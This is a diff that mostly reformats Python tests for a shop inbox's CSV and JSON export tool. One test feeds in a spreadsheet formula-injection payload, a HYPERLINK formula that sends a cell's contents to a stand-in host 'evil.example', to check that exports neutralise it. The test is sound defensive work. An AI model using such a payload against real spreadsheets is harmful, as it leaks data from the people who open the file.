@@ -61,8 +61,9 @@ def test_export_everything_as_csv_gives_one_row_per_post(demo_store, tmp_path):
     target = tmp_path / "everything.csv"
     seen: list[tuple[int, int]] = []
 
-    result = export_inbox(demo_store, target, progress=lambda d, t: seen.append((d, t)),
-                          page_size=7)
+    result = export_inbox(
+        demo_store, target, progress=lambda d, t: seen.append((d, t)), page_size=7
+    )
 
     posts = all_posts(demo_store)
     rows = read_csv(target)
@@ -89,8 +90,7 @@ def test_corrected_label_wins_in_the_csv(demo_store, tmp_path):
 
     export_inbox(demo_store, tmp_path / "out.csv")
 
-    rows = [r for r in read_csv(tmp_path / "out.csv")
-            if r["text"].lstrip("'") == post.post.text]
+    rows = [r for r in read_csv(tmp_path / "out.csv") if r["text"].lstrip("'") == post.post.text]
     assert [r["sentiment"] for r in rows] == ["praise"]  # the window's word
 
 
@@ -110,14 +110,19 @@ def test_searching_cake_exports_only_the_matching_conversations(demo_store, tmp_
         assert any("cake" in text for text in texts)
 
 
-def test_a_formula_in_a_post_is_neutralised(store, shop_account, make_post, keyword_score,
-                                            tmp_path):
+def test_a_formula_in_a_post_is_neutralised(
+    store, shop_account, make_post, keyword_score, tmp_path
+):
     evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for a refund")'
-    store.ingest(shop_account.id, [
-        make_post("1", evil, author="mallory", url="https://town.example/@m/1"),
-        make_post("2", "-2+3 is my order number", author="ann", minutes=1),
-        make_post("3", "@cornerbakery thanks!", author="bob", minutes=2),
-    ], keyword_score)
+    store.ingest(
+        shop_account.id,
+        [
+            make_post("1", evil, author="mallory", url="https://town.example/@m/1"),
+            make_post("2", "-2+3 is my order number", author="ann", minutes=1),
+            make_post("3", "@cornerbakery thanks!", author="bob", minutes=2),
+        ],
+        keyword_score,
+    )
 
     export_inbox(store, tmp_path / "out.csv")
 
@@ -129,18 +134,21 @@ def test_a_formula_in_a_post_is_neutralised(store, shop_account, make_post, keyw
     assert ',"=HYPERLINK' not in raw and ",=HYPERLINK" not in raw
 
 
-@pytest.mark.parametrize(("cell", "safe"), [
-    ("=1+1", "'=1+1"),
-    ("+1", "'+1"),
-    ("-1", "'-1"),
-    ("@SUM(A1)", "'@SUM(A1)"),
-    ("\t=1", "'\t=1"),
-    ("  =1", "'  =1"),
-    ("plain text", "plain text"),
-    ("a=b", "a=b"),
-    ("", ""),
-    ("nul\x00byte", "nulbyte"),
-])
+@pytest.mark.parametrize(
+    ("cell", "safe"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("  =1", "'  =1"),
+        ("plain text", "plain text"),
+        ("a=b", "a=b"),
+        ("", ""),
+        ("nul\x00byte", "nulbyte"),
+    ],
+)
 def test_neutralise_cell(cell, safe):
     assert neutralise_cell(cell) == safe
 
@@ -153,10 +161,12 @@ def test_json_has_threads_with_posts_replies_and_private_notes(demo_store, tmp_p
     customer = next(p for p in posts if not p.is_own)
     contact = demo_store.contact_for_post(customer.id)
     demo_store.set_contact_note(contact.id, "Prefers pickup after 3pm. Nut allergy!")
-    queued = demo_store.enqueue_reply(customer.thread_id, customer.post.remote_id,
-                                      "We're on it, sorry!", "key-1")
-    failed = demo_store.enqueue_reply(customer.thread_id, customer.post.remote_id,
-                                      "Second try", "key-2")
+    queued = demo_store.enqueue_reply(
+        customer.thread_id, customer.post.remote_id, "We're on it, sorry!", "key-1"
+    )
+    failed = demo_store.enqueue_reply(
+        customer.thread_id, customer.post.remote_id, "Second try", "key-2"
+    )
     demo_store.mark_sending(failed.id)
     demo_store.mark_failed(failed.id, "The server could not be reached.")
 
@@ -167,8 +177,10 @@ def test_json_has_threads_with_posts_replies_and_private_notes(demo_store, tmp_p
     assert len(data["threads"]) == data["thread_count"] == result.threads
     assert sum(len(t["posts"]) for t in data["threads"]) == len(posts) == data["post_count"]
     thread = next(t for t in data["threads"] if t["id"] == customer.thread_id)
-    assert {"handle": contact.handle, "note": "Prefers pickup after 3pm. Nut allergy!"}.items() \
-        <= next(c for c in thread["customers"] if c["contact_id"] == contact.id).items()
+    assert {
+        "handle": contact.handle,
+        "note": "Prefers pickup after 3pm. Nut allergy!",
+    }.items() <= next(c for c in thread["customers"] if c["contact_id"] == contact.id).items()
     outbox = {r["text"]: r for r in thread["replies"] if r["source"] == "outbox"}
     assert outbox["We're on it, sorry!"]["state"] == OutboxState.QUEUED.value
     assert outbox["Second try"]["state"] == "failed"
@@ -182,13 +194,13 @@ def test_json_has_threads_with_posts_replies_and_private_notes(demo_store, tmp_p
         assert len(sent) == sum(p["is_own"] for p in t["posts"])
         assert {r["state"] for r in sent} <= {"sent", "deleted"}
     first = data["threads"][0]["posts"][0]
-    assert {"label", "scored_label", "corrected_label", "compound", "reasons"} \
-        <= set(first["sentiment"])
+    assert {"label", "scored_label", "corrected_label", "compound", "reasons"} <= set(
+        first["sentiment"]
+    )
 
 
 def test_an_empty_result_is_still_valid_json(demo_store, tmp_path):
-    result = export_inbox(demo_store, tmp_path / "none.json",
-                          ThreadQuery(search="zzzqqqxxnothing"))
+    result = export_inbox(demo_store, tmp_path / "none.json", ThreadQuery(search="zzzqqqxxnothing"))
 
     data = json.loads((tmp_path / "none.json").read_text(encoding="utf-8"))
     assert data["threads"] == [] and result.threads == 0
@@ -314,7 +326,11 @@ def run_export(data_dir: Path, *args: str) -> subprocess.CompletedProcess[str]:
     env = {k: v for k, v in os.environ.items() if k != "SHOPKEEP_DATA_DIR"}
     return subprocess.run(
         [sys.executable, "-m", "app", "--data-dir", str(data_dir), "export", *args],
-        cwd=ROOT, env=env, capture_output=True, text=True, timeout=90,
+        cwd=ROOT,
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=90,
         stdin=subprocess.DEVNULL,
     )
 
@@ -355,11 +371,16 @@ def test_the_command_checks_its_words_before_doing_anything(demo_store, tmp_path
     paths = resolve_paths(tmp_path / "data")
     demo_store.close()
     err = io.StringIO()
-    for argv in (["out.xlsx"], ["out.csv", "--since", "31/05/2024"],
-                 ["out.csv", "--folder", "spam"], ["out.csv", "--account", "999"],
-                 ["out.csv", "--since", "2024-06-01", "--until", "2024-05-01"]):
-        assert cli_main([str(tmp_path / argv[0]), *argv[1:]], paths, out=io.StringIO(),
-                        err=err) == 1, argv
+    for argv in (
+        ["out.xlsx"],
+        ["out.csv", "--since", "31/05/2024"],
+        ["out.csv", "--folder", "spam"],
+        ["out.csv", "--account", "999"],
+        ["out.csv", "--since", "2024-06-01", "--until", "2024-05-01"],
+    ):
+        assert (
+            cli_main([str(tmp_path / argv[0]), *argv[1:]], paths, out=io.StringIO(), err=err) == 1
+        ), argv
     assert "Traceback" not in err.getvalue()
     assert "there is no account 999" in err.getvalue()
     assert not list(tmp_path.glob("out.*"))
@@ -369,7 +390,11 @@ def test_the_command_filters_by_day_and_data_dir_after_out(demo_store, tmp_path)
     demo_store.close()
     out = tmp_path / "old.json"
     elsewhere = resolve_paths(tmp_path / "elsewhere")
-    code = cli_main([str(out), "--until", "2001-01-01", "--data-dir", str(tmp_path / "data")],
-                    elsewhere, out=io.StringIO(), err=io.StringIO())
+    code = cli_main(
+        [str(out), "--until", "2001-01-01", "--data-dir", str(tmp_path / "data")],
+        elsewhere,
+        out=io.StringIO(),
+        err=io.StringIO(),
+    )
     assert code == 0
     assert json.loads(out.read_text(encoding="utf-8"))["threads"] == []
